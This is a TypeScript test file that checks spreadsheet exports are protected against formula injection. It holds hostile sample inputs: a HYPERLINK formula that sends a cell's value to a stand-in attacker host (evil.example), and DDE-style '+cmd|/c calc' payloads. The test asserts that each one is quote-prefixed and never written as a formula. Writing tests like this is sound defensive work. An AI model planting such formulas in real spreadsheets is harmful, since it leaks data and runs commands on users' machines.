import * as XLSX from '@e965/xlsx';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { withApp, type Client, type TestApp } from '../fixtures';
import { sheetCell, workbook } from '../../src/platform/files/download';
import { watermarkedWorkbook } from '../../src/areas/shell/exportJobs/rules';

const EVIL = '=HYPERLINK("https://evil.example/?d="&A2,"点此查看")';

/** Every cell of a written workbook's first sheet: its type and value. */
function cellsOf(bytes: Uint8Array): { t: string; v: unknown }[] {
  const book = XLSX.read(bytes, { type: 'buffer', cellFormula: true });
  const sheet = book.Sheets[book.SheetNames[0]!]!;
  return Object.entries(sheet)
    .filter(([k]) => !k.startsWith('!'))
    .map(([, c]) => ({ t: (c as XLSX.CellObject).t, v: (c as XLSX.CellObject).v, f: (c as XLSX.CellObject).f }));
}

describe('formula neutralisation of written cells (issue 37)', () => {
  it('prefixes text a spreadsheet would run with a quote; numbers, amounts and placeholders stay as they are', () => {
    for (const text of [EVIL, '+cmd|/c calc!A1', '-2+3+cmd|/c calc!A1', '@SUM(A1:A9)', '\t=1+1', '\r=1+1', '=1+1'])
      expect(sheetCell(text), JSON.stringify(text)).toBe(`'${text}`);
    for (const plain of ['华为技术有限公司', 'a=b', '-', '--', '-12.5', '+3%', '-1,234.56万元', ''])
      expect(sheetCell(plain), plain).toBe(plain);
    expect(sheetCell(-1234.5)).toBe(-1234.5);
    expect(sheetCell(0)).toBe(0);
    expect(sheetCell(null)).toBe('');
    expect(sheetCell(undefined)).toBe('');
  });

  it('writes it so in plain workbooks (in their worker) and in watermarked exports: no formula cell, the amount a number', async () => {
    const plain = cellsOf(await workbook([{ name: '列表', header: ['企业名称', '金额'], rows: [[EVIL, -1234.5]] }]));
    const exported = cellsOf(
      watermarkedWorkbook(
        '导出',
        { header: ['企业名称', '金额'], rows: [[EVIL, -1234.5]] },
        { userName: '张三', username: 'zs', instName: '演示银行', at: new Date('2026-06-30T02:00:00Z') },
      ),
    );
    for (const cells of [plain, exported]) {
      expect(cells.find((c) => String(c.v).includes('HYPERLINK'))).toEqual({ t: 's', v: `'${EVIL}`, f: undefined });
      expect(cells.find((c) => c.t === 'n')).toMatchObject({ v: -1234.5 });
      expect(cells.some((c) => (c as { f?: string }).f)).toBe(false);
    }
  });

  describe('through an export call', () => {
    let t: TestApp;
    let analyst: Client;
    let entId: string;
    beforeAll(async () => {
      t = await withApp({ engine: 'pglite', data: { companies: 300, seed: 7, today: new Date('2026-11-22') } });
      analyst = await t.client('analyst');
      entId = (await t.database.db.selectFrom('company').select('ent_id').limit(1).executeTakeFirstOrThrow()).ent_id;
      await t.database.db.updateTable('company').set({ name: EVIL }).where('ent_id', '=', entId).execute();
    }, 180_000);
    afterAll(() => t?.close());

    it('neutralises a company named =HYPERLINK(...) in its base-information export', async () => {
      const res = await analyst.inject({ method: 'GET', url: `/esee/baseinfo/exportBaseInfo?entId=${entId}` });
      expect(res.statusCode).toBe(200);
      const cells = cellsOf(res.rawPayload);
      const named = cells.filter((c) => String(c.v).includes('HYPERLINK'));
      expect(named.length).toBeGreaterThan(0);
      for (const c of named) expect(c).toEqual({ t: 's', v: `'${EVIL}`, f: undefined });
    }, 120_000);
  });
});
